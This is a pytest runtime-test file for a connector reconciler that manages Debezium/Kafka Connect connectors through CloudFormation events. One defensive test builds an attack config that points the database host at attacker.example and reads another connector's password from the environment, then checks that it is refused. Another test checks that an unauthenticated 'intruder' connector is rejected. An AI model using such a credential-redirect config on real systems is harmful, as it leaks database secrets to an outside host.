"""The reconciler's handler, called with the events CloudFormation sends, against real Kafka Connect and Debezium.

The connector is the one the Dev template declares (only its name, slot and topic prefix are changed, to keep it
apart from the end-to-end test, and its host and port point at the local PostgreSQL).
"""

from __future__ import annotations

import json
import logging
import time
import urllib.error
import urllib.request

import pytest

from tests.runtime import harness
from tests.runtime.conftest import WRONG_PASSWORD_CONNECTOR
from tests.runtime_code.lambda_modules import load
from tests.runtime_code.memory_stores import MemoryState, RecordingCloudWatch
from tests.support import resources

reconciler = load("connector_reconciler")
health = load("connect_health")
connect_rest = load("connect_rest")
NAME = "reconciler-accounts"


@pytest.fixture(scope="module")
def declared(synthesized, runtime):
    """The Dev template's connector properties (as CloudFormation would pass them), pointed at the local services."""
    [(logical_id, resource)] = resources(synthesized.raw("dev", "Connect"), "Custom::KafkaConnector").items()
    properties = {k: v for k, v in resource["Properties"].items() if k != "ServiceToken"}
    config = {**properties["Config"], "database.hostname": "127.0.0.1", "database.port": str(runtime.postgres.port),
              "database.sslrootcert": str(runtime.postgres.ca_file),
              "slot.name": "reconciler_accounts", "topic.prefix": "reconciler.accounts"}
    # The template waits 15 s for a connector to hold its state; 5 s keeps this tier within its minutes.
    properties.update(ConnectUrl=runtime.connect_url, ConnectorName=NAME, Config=runtime.own_credentials(NAME, config),
                      TimeoutSeconds=180,
                      StableSeconds=5)
    return logical_id, properties


def test_create_update_no_op_pause_resume_and_delete(runtime, declared, deployment):
    logical_id, properties = declared
    created = deployment.send("Create", properties, logical_id=logical_id)
    assert (created["Status"], created["PhysicalResourceId"], created["Data"]) == (
        "SUCCESS", NAME, {"Action": "created", "State": "RUNNING"})
    status = runtime.connect_json(f"/connectors/{NAME}/status")
    assert status["connector"]["state"] == "RUNNING" and [t["state"] for t in status["tasks"]] == ["RUNNING"]

    unchanged = deployment.send("Update", properties, logical_id=logical_id, physical_id=NAME, old_properties=properties)
    assert unchanged["Data"] == {"Action": "unchanged", "State": "RUNNING"}

    changed = {**properties, "Config": {**properties["Config"], "heartbeat.interval.ms": "5000"}}
    updated = deployment.send("Update", changed, logical_id=logical_id, physical_id=NAME, old_properties=properties)
    assert updated["Data"] == {"Action": "updated", "State": "RUNNING"}
    assert runtime.connect_json(f"/connectors/{NAME}/config")["heartbeat.interval.ms"] == "5000"

    paused = deployment.send("Update", {**changed, "DesiredState": "paused"}, logical_id=logical_id, physical_id=NAME,
                             old_properties=changed)
    assert paused["Data"] == {"Action": "unchanged", "State": "PAUSED"}
    assert runtime.connect_json(f"/connectors/{NAME}/status")["connector"]["state"] == "PAUSED"

    resumed = deployment.send("Update", changed, logical_id=logical_id, physical_id=NAME, old_properties=changed)
    assert resumed["Data"]["State"] == "RUNNING"
    assert runtime.connect_json(f"/connectors/{NAME}/status")["connector"]["state"] == "RUNNING"

    deleted = deployment.send("Delete", changed, logical_id=logical_id, physical_id=NAME)
    assert (deleted["Status"], deleted["Data"]) == ("SUCCESS", {"Action": "deleted"})
    assert NAME not in runtime.connect_json("/connectors")


def test_a_connector_with_a_wrong_password_is_reported_with_the_database_answer(runtime, declared,
                                                                                 deployment, caplog):
    caplog.set_level(logging.INFO)
    logical_id, properties = declared
    config = {**runtime.own_credentials(WRONG_PASSWORD_CONNECTOR, properties["Config"]),
              "slot.name": "reconciler_wrong", "topic.prefix": "reconciler.wrong"}
    failed = deployment.send("Create", {**properties, "ConnectorName": WRONG_PASSWORD_CONNECTOR, "Config": config},
                             logical_id=logical_id)
    assert failed["Status"] == "FAILED"
    assert "password authentication failed" in failed["Reason"]
    assert "not-the-password" not in failed["Reason"] and "not-the-password" not in caplog.text
    assert "reconciler-wrong" not in runtime.connect_json("/connectors")


def test_operations_succeed_through_a_real_rebalance(runtime, declared, deployment, caplog, monkeypatch):
    """A second worker joins while the connector is being changed, and the changes go to that worker: until it has
    joined the group it answers 503 on /health (and 404, or 409, for what it has not read); the reconciler retries
    until the worker is ready, then updates the connector through the new group."""
    caplog.set_level(logging.INFO)
    logical_id, properties = declared
    created = deployment.send("Create", properties, logical_id=logical_id)
    assert created["Status"] == "SUCCESS", created
    joining = runtime.start_worker("connect-2", wait=False)
    port = int(joining.url.rsplit(":", 1)[1])
    assert _wait_for_port(port), joining.process.tail()
    changed = {**properties, "ConnectUrl": joining.url,
               "Config": {**properties["Config"], "heartbeat.interval.ms": "4321"}}
    monkeypatch.setenv("CONNECT_URL", joining.url)  # a reconciler deployed for the joining worker's address
    updated = deployment.send("Update", changed, logical_id=logical_id, physical_id=NAME, old_properties=properties)
    assert (updated["Status"], updated["Data"]) == ("SUCCESS", {"Action": "updated", "State": "RUNNING"}), updated
    retried = [r.getMessage() for r in caplog.records if "(attempt " in r.getMessage()]
    assert retried, "the joining worker never asked to be retried: the retry path was not exercised"
    print("retried while the worker joined:", retried[:3])
    assert runtime.connect_json(f"/connectors/{NAME}/config")["heartbeat.interval.ms"] == "4321"
    deployment.send("Delete", changed, logical_id=logical_id, physical_id=NAME)


def _wait_for_port(port: int, timeout: float = 60) -> bool:
    import socket

    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        with socket.socket() as probe:
            if probe.connect_ex(("127.0.0.1", port)) == 0:
                return True
        time.sleep(0.05)
    return False


def test_the_reconciler_refuses_another_connectors_credentials_and_another_connect(runtime, declared,
                                                                                   deployment):
    """The attack the security review described: a connector config reading another database's password, or an
    event pointing the reconciler at another Connect cluster. Both are refused before Connect is called."""
    logical_id, properties = declared
    stolen = {**properties, "ConnectorName": "reconciler-thief",
              "Config": {**properties["Config"], "database.hostname": "attacker.example",
                         "database.password": "${env:DBZ_PAYMENTS_CDC_PASSWORD}"}}
    refused = deployment.send("Create", stolen, logical_id=logical_id)
    assert refused["Status"] == "FAILED"
    assert "database.password refers to ${env:DBZ_PAYMENTS_CDC_PASSWORD}, which is not connector " \
           "reconciler-thief's own" in refused["Reason"]
    elsewhere = deployment.send("Create", {**properties, "ConnectUrl": "http://127.0.0.1:1"}, logical_id=logical_id)
    assert elsewhere["Status"] == "FAILED" and "is not this reconciler's Connect cluster" in elsewhere["Reason"]
    assert "reconciler-thief" not in runtime.connect_json("/connectors")


@pytest.mark.parametrize("credentials", [None, ("platform", "guessed"), ("admin", harness.REST_PASSWORD)],
                         ids=["none", "wrong-password", "wrong-user"])
def test_the_rest_api_refuses_whoever_lacks_the_platforms_credentials(runtime, credentials):
    """The attack: a host that reaches port 8083 (the workers' security group) writes a connector of its own. The
    real worker's basic-auth extension refuses it, and every read too, /health included."""
    attempts = [("POST", "/connectors", json.dumps({"name": "intruder", "config": {
                    "connector.class": "org.apache.kafka.connect.file.FileStreamSourceConnector"}}).encode()),
                ("GET", "/connectors", None), ("GET", "/health", None)]
    for method, path, body in attempts:
        request = harness.rest_request(f"{runtime.connect_url}{path}", method=method, data=body,
                                       credentials=credentials)
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.urlopen(request, timeout=30)  # noqa: S310 - the local Connect worker
        assert refused.value.code == 401, (method, path)
    assert "intruder" not in runtime.connect_json("/connectors")


def _slots(runtime) -> set[str]:
    return set(filter(None, runtime.postgres.sql("postgres", "SELECT slot_name FROM pg_replication_slots").split("\n")))


def test_deleting_a_connector_declared_to_drop_its_slot_drops_it(runtime, declared, deployment):
    """Security review M2: a deleted connector's slot pins WAL until it is dropped. With ``slot_on_delete: drop``
    the reconciler has the real Debezium task drop it as the deletion stops it. (``retain``, the default, calls
    nothing more than a deletion: tests/runtime_code covers it.)"""
    slot_on_delete = "drop"
    logical_id, properties = declared
    slot = f"reconciler_slot_{slot_on_delete}"
    # A prefix of its own: Connect keeps a connector's offsets under its name and prefix, and Debezium refuses to
    # resume from offsets whose slot was dropped (what the default, retain, protects against).
    properties = {**properties, "SlotOnDelete": slot_on_delete,
                  "Config": {**properties["Config"], "slot.name": slot, "topic.prefix": f"slot.{slot_on_delete}"}}
    created = deployment.send("Create", properties, logical_id=logical_id)
    assert created["Status"] == "SUCCESS", created
    harness.wait_until(lambda: slot in _slots(runtime), timeout=60, what=f"replication slot {slot}")
    deleted = deployment.send("Delete", properties, logical_id=logical_id, physical_id=NAME)
    assert deleted["Status"] == "SUCCESS", deleted
    try:
        assert deleted["Data"] == {"Action": "deleted", "Slot": "dropped"}
        harness.wait_until(lambda: slot not in _slots(runtime), timeout=60, what=f"slot {slot} dropped")
    finally:
        if slot in _slots(runtime):
            runtime.postgres.sql("postgres", f"SELECT pg_drop_replication_slot('{slot}')")


def _connector(properties, name, slot, prefix, runtime, **extra):
    config = runtime.own_credentials(name, {**properties["Config"], "slot.name": slot, "topic.prefix": prefix})
    return {**properties, "ConnectorName": name, "Config": config, **extra}


def _monitor(runtime, deployment, monkeypatch):
    monkeypatch.setenv("CONNECT_URL", runtime.connect_url)
    monkeypatch.setenv("CONNECT_CLUSTER", "runtime-cdc")
    monkeypatch.setenv("CORRECT_DRIFT", "true")  # it would create again any declared connector found absent
    monkeypatch.setenv("PRUNE_UNDECLARED", "false")  # the shared cluster runs other tests' connectors
    return health.handler({}, None, cloudwatch=RecordingCloudWatch(), store=MemoryState(), clock=time.time,
                          stack=deployment.settled())


def test_a_removed_connector_is_deleted_its_slot_dropped_and_never_restored(runtime, declared, deployment,
                                                                             monkeypatch):
    """Issue 29's finding: a removed connector (retained, at 86b47a0) was pruned and then restored by the monitor
    from its stored declaration within a minute. Now CloudFormation's Delete reaches the reconciler (slot_on_delete
    drop honoured), and two monitor runs, which put back whatever the deployed template declares, restore nothing."""
    logical_id, properties = declared
    kept = _connector(properties, "lifecycle-kept", "lifecycle_kept", "lifecycle.kept", runtime)
    removed = _connector(properties, "lifecycle-removed", "lifecycle_removed", "lifecycle.removed", runtime,
                         SlotOnDelete="drop")
    try:
        for name, props in (("LifecycleKept", kept), ("LifecycleRemoved", removed)):
            assert deployment.send("Create", props, logical_id=name)["Status"] == "SUCCESS"
        harness.wait_until(lambda: "lifecycle_removed" in _slots(runtime), timeout=60, what="the slot to drop")
        # The next deployment's template no longer declares lifecycle-removed: CloudFormation deletes it in cleanup.
        # (The prune that follows, with the template's list, is tests/runtime_code's: this tier's Connect cluster is
        # shared by every runtime test, whose connectors a prune here would delete.)
        deleted = deployment.send("Delete", removed, logical_id="LifecycleRemoved", physical_id="lifecycle-removed")
        assert deleted["Data"] == {"Action": "deleted", "Slot": "dropped"}, deleted
        harness.wait_until(lambda: "lifecycle_removed" not in _slots(runtime), timeout=60, what="the slot dropped")
        for _ in range(2):
            result = _monitor(runtime, deployment, monkeypatch)
            assert "lifecycle-removed" not in (result["corrected"] or [])
            assert "lifecycle-removed" not in runtime.connect_json("/connectors")
        assert "lifecycle-kept" in runtime.connect_json("/connectors")
    finally:
        for name in ("lifecycle-kept", "lifecycle-removed"):
            _delete_if_present(runtime, name)
        for slot in ("lifecycle_kept", "lifecycle_removed"):
            if slot in _slots(runtime):
                harness.wait_until(lambda: _slot_inactive(runtime, slot), timeout=60, what=f"{slot} released")
                runtime.postgres.sql("postgres", f"SELECT pg_drop_replication_slot('{slot}')")


def test_a_renamed_connector_leaves_exactly_one_connector_on_its_slot(runtime, declared, deployment):
    """A rename keeps the slot: CloudFormation creates the new name before it deletes the old one, and two
    connectors cannot share a slot. The reconciler deletes the old one first (its slot kept), creates the new one,
    and the old resource's Delete, in the cleanup, finds nothing to do."""
    logical_id, properties = declared
    old = _connector(properties, "rename-before", "rename_slot", "rename.slot", runtime, SlotOnDelete="drop")
    new = _connector(properties, "rename-after", "rename_slot", "rename.slot", runtime)
    try:
        assert deployment.send("Create", old, logical_id="RenameBefore")["Status"] == "SUCCESS"
        harness.wait_until(lambda: "rename_slot" in _slots(runtime), timeout=60, what="the slot")
        deployment.cloudformation.template["Resources"].pop("RenameBefore")  # the new template declares the new name
        created = deployment.send("Create", new, logical_id="RenameAfter")
        assert (created["Status"], created["Data"].get("Replaced")) == ("SUCCESS", "rename-before"), created
        cleanup = deployment.send("Delete", old, logical_id="RenameBefore", physical_id="rename-before")
        assert cleanup["Data"] == {"Action": "absent", "Slot": "absent"}
        connectors = runtime.connect_json("/connectors")
        on_slot = [n for n in connectors if runtime.connect_json(f"/connectors/{n}/config").get("slot.name")
                   == "rename_slot"]
        assert on_slot == ["rename-after"]
        assert runtime.connect_json("/connectors/rename-after/status")["connector"]["state"] == "RUNNING"
        assert "rename_slot" in _slots(runtime)  # kept for the new name
    finally:
        for name in ("rename-before", "rename-after"):
            _delete_if_present(runtime, name)
        if "rename_slot" in _slots(runtime):
            harness.wait_until(lambda: _slot_inactive(runtime, "rename_slot"), timeout=60, what="the slot released")
            runtime.postgres.sql("postgres", "SELECT pg_drop_replication_slot('rename_slot')")


def _delete_if_present(runtime, name):
    client = connect_rest.platform_client(runtime.connect_url, deadline=time.monotonic() + 60)
    client.delete(name)


def _slot_inactive(runtime, slot):
    return runtime.postgres.sql("postgres", f"SELECT active FROM pg_replication_slots WHERE slot_name = '{slot}'"
                                ).strip() in ("f", "")


def test_an_empty_declaration_prunes_nothing_and_pages(runtime, deployment, monkeypatch):
    """Issue 30: with pruning on, a template that declares no connector (or a store emptied by hand, at 86b47a0)
    must not delete every connector: the monitor refuses, says why, and publishes PruneRefused."""
    # A connector the template does not declare (created by hand, stopped: it reads nothing).
    body = {"name": "by-hand-kept", "initial_state": "STOPPED", "config": {
        "connector.class": "org.apache.kafka.connect.mirror.MirrorHeartbeatConnector",
        "source.cluster.alias": "a", "target.cluster.alias": "b"}}
    with urllib.request.urlopen(harness.rest_request(f"{runtime.connect_url}/connectors", method="POST",
                                                     data=json.dumps(body).encode()), timeout=60):
        pass
    before = sorted(runtime.connect_json("/connectors"))
    assert "by-hand-kept" in before
    monkeypatch.setenv("CONNECT_URL", runtime.connect_url)
    monkeypatch.setenv("CONNECT_CLUSTER", "runtime-cdc")
    monkeypatch.setenv("CORRECT_DRIFT", "true")
    monkeypatch.setenv("PRUNE_UNDECLARED", "true")
    cloudwatch = RecordingCloudWatch()
    result = health.handler({}, None, cloudwatch=cloudwatch, store=MemoryState(), clock=time.time,
                            stack=deployment.settled())
    assert result["prune_refused"] == ("the deployed template declares no connector, and Connect runs some: nothing "
                                       "is pruned"), result
    assert sorted(runtime.connect_json("/connectors")) == before
    refused = [m for m in cloudwatch.metric_data if m["MetricName"] == "PruneRefused"]
    assert refused and refused[0]["Value"] == 1
    with urllib.request.urlopen(harness.rest_request(f"{runtime.connect_url}/connectors/by-hand-kept",
                                                     method="DELETE"), timeout=60):
        pass
